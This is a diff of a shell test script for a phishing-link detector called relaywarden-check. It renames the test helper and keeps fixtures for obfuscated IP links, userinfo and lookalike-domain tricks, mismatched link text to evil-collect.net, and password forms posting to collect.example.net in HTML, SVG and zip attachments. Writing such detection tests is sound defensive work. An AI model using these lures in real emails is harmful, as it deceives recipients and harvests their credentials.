@@ -24,95 +24,55 @@ msg() {
 	} >"$t/$1.eml"
 }
 
-# check NAME CONF WANT... : each WANT is "+rule" (raised) or "-rule"
-# (not raised); "links>=N" at least N link records; "trunc" the scan
-# hit the link cap.
-check() {
-	local name=$1 conf=$2 m
-	shift 2
-	if ! "$CHECK" -c "$conf" --client-ip 198.51.100.7 --json \
-	    "$t/$name.eml" >"$t/$name.json" 2>"$t/err"; then
-		not_ok "$name: relaywarden-check ran" "$(cat "$t/err")"
-		return
-	fi
-	if m=$($PY - "$t/$name.json" "$@" <<'P'
-import json, sys
-r = json.load(open(sys.argv[1]))
-rules = {x["rule"] for x in r["verdict"]["reasons"]}
-bad = []
-for w in sys.argv[2:]:
-    if w.startswith("+") and w[1:] not in rules:
-        bad.append("no %s" % w[1:])
-    elif w.startswith("-") and w[1:] in rules:
-        bad.append("%s raised" % w[1:])
-    elif w.startswith("links>="):
-        if len(r["links"]) < int(w[7:]):
-            bad.append("links %d" % len(r["links"]))
-    elif w == "trunc":
-        if "links" not in (r["attachments_truncated"] or ""):
-            bad.append("truncated %s" % r["attachments_truncated"])
-if bad:
-    bad.append("reasons %s links %s" % (sorted(rules),
-        [(l["kind"], l["host"], l["shown"], l["flags"]) for l in r["links"]]))
-print("; ".join(bad))
-sys.exit(1 if bad else 0)
-P
-	); then
-		ok "$name"
-	else
-		not_ok "$name" "$m"
-	fi
-}
-
 H='text/html; charset=utf-8'
 # ---- attacks ----
 msg ip_int "$H" '<a href="http://3221225985/login">statement</a>'
-check ip_int "$t/rw.conf" +link_ip
+link_check ip_int "$t/rw.conf" +link_ip
 msg ip_hex text/plain 'Open http://0xC0.0xA8.0x01.0x01/x today'
-check ip_hex "$t/rw.conf" +link_ip
+link_check ip_hex "$t/rw.conf" +link_ip
 msg userinfo "$H" '<a href="https://ourbank.com&#64;evil-collect.net/">your bank</a>'
-check userinfo "$t/rw.conf" +link_userinfo
+link_check userinfo "$t/rw.conf" +link_userinfo
 msg mis_url "$H" '<a href="https://evil-collect.net/x">https://www.ourbank.com/login</a>'
-check mis_url "$t/rw.conf" +link_text_mismatch
+link_check mis_url "$t/rw.conf" +link_text_mismatch
 msg mis_bare "$H" '<a href="https://evil-collect.net/x"><b>ourbank.com</b></a>'
-check mis_bare "$t/rw.conf" +link_text_mismatch
+link_check mis_bare "$t/rw.conf" +link_text_mismatch
 msg mis_after_end "$H" '<html><body>hi</body></html><a href="https://evil-collect.net/">www.ourbank.com</a>'
-check mis_after_end "$t/rw.conf" +link_text_mismatch
+link_check mis_after_end "$t/rw.conf" +link_text_mismatch
 msg mis_nul "$H" '<p>\0\0\xff</p><a href="https://evil-collect.net/">www.ourbank.com</a>'
-check mis_nul "$t/rw.conf" +link_text_mismatch
+link_check mis_nul "$t/rw.conf" +link_text_mismatch
 msg lookalike "$H" '<a href="https://0urbank.com/login">sign in</a>'
-check lookalike "$t/rw.conf" +link_lookalike_protected
+link_check lookalike "$t/rw.conf" +link_lookalike_protected
 msg form_attach 'multipart/mixed; boundary="b"' '--b\nContent-Type: text/plain\n\nSee attached.\n--b\nContent-Type: text/html; name="doc.html"\nContent-Disposition: attachment; filename="doc.html"\n\n<form action="https://collect.example.net/p"><input type=password></form>\n--b--'
-check form_attach "$t/rw.conf" +link_form_password
+link_check form_attach "$t/rw.conf" +link_form_password
 msg form_script 'multipart/mixed; boundary="b"' '--b\nContent-Type: text/plain\n\nSee attached.\n--b\nContent-Type: image/svg+xml; name="scan.svg"\nContent-Disposition: attachment; filename="scan.svg"\n\n<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><input type="password"/></foreignObject></svg>\n--b--'
-check form_script "$t/rw.conf" +link_form_password
+link_check form_script "$t/rw.conf" +link_form_password
 # a phishing page inside a zip
 mkdir -p "$t/z"
 printf '<form action="https://collect.example.net/p"><input type="password"></form>' >"$t/z/invoice.html"
 (cd "$t/z" && zip -q inv.zip invoice.html)
 msg form_zip 'multipart/mixed; boundary="b"' "--b\nContent-Type: text/plain\n\nInvoice attached.\n--b\nContent-Type: application/zip; name=\"inv.zip\"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"inv.zip\"\n\n$(base64 -w 76 "$t/z/inv.zip")\n--b--"
-check form_zip "$t/rw.conf" +link_form_password
+link_check form_zip "$t/rw.conf" +link_form_password
 # more distinct link hosts than the cap: the scan is incomplete
 body=
 for i in $(seq 1 300); do body="$body<a href=\"https://h$i.example/\">x</a>"; done
 msg many "$H" "$body"
-check many "$t/rw.conf" +attach_truncated trunc "links>=256"
+link_check many "$t/rw.conf" +attach_truncated trunc "links>=256"
 
 # ---- benign counterparts ----
 msg plain_links text/plain 'Agenda: https://www.partner-corp.com/agenda and www.conference.org/2027 (slides).'
-check plain_links "$t/rw.conf" -link_ip -link_userinfo -link_text_mismatch "links>=2"
+link_check plain_links "$t/rw.conf" -link_ip -link_userinfo -link_text_mismatch "links>=2"
 msg same_org "$H" '<a href="https://shop.partner-corp.com/offer">www.partner-corp.com</a>'
-check same_org "$t/rw.conf" -link_text_mismatch
+link_check same_org "$t/rw.conf" -link_text_mismatch
 msg filename "$H" '<a href="https://files.partner-corp.com/d/1">report.pdf</a> <a href="https://x.example/">Click here</a>'
-check filename "$t/rw.conf" -link_text_mismatch
+link_check filename "$t/rw.conf" -link_text_mismatch
 msg esp "$H" '<a href="https://click.esp-track.com/ls/click?u=1">www.shop-corp.com</a><img src="https://img.esp-track.com/p.gif">'
 cp "$t/esp.eml" "$t/esp_unconfigured.eml"
-check esp_unconfigured "$t/rw.conf" +link_text_mismatch
-check esp "$t/redir.conf" -link_text_mismatch
+link_check esp_unconfigured "$t/rw.conf" +link_text_mismatch
+link_check esp "$t/redir.conf" -link_text_mismatch
 msg newsletter_form "$H" '<form action="https://www.partner-corp.com/subscribe"><input type="email"></form><a href="mailto:x@partner-corp.com">write</a><a href="#top">top</a>'
-check newsletter_form "$t/rw.conf" -link_form_password
+link_check newsletter_form "$t/rw.conf" -link_form_password
 msg ipv6_doc text/plain 'The address 2001:db8::1 is documentation; see RFC 3849.'
-check ipv6_doc "$t/rw.conf" -link_ip
+link_check ipv6_doc "$t/rw.conf" -link_ip
 
 echo "# $pass passed, $fail failed"
 [ "$fail" -eq 0 ]
